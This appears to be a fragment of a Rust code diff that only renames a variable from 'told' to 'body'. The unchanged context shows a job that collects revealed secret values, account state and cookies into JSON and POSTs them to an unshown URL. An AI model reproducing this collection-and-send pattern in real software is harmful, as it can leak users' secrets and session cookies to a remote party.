@@ -14,7 +14,7 @@ fn run(job: Job) -> Result<Report, Failure> {
             json!([name, secrets::placeholder(&name).unwrap_or_default(), reveal::reveal(&name).unwrap_or_default()])
         })
         .collect();
-    let told = json!({
+    let body = json!({
         "fields": account::fields(),
         "state": account::load_state().unwrap_or_default(),
         "cookies": cookies,
@@ -28,7 +28,7 @@ fn run(job: Job) -> Result<Report, Failure> {
         method: "POST".to_owned(),
         url,
         headers: vec![http::Header { name: "content-type".to_owned(), value: "application/json".to_owned() }],
-        body: Some(told.to_string().into_bytes()),
+        body: Some(body.to_string().into_bytes()),
         form_charset: None,
         response_format: http::BodyFormat::ByMediaType,
         follow_redirects: false,
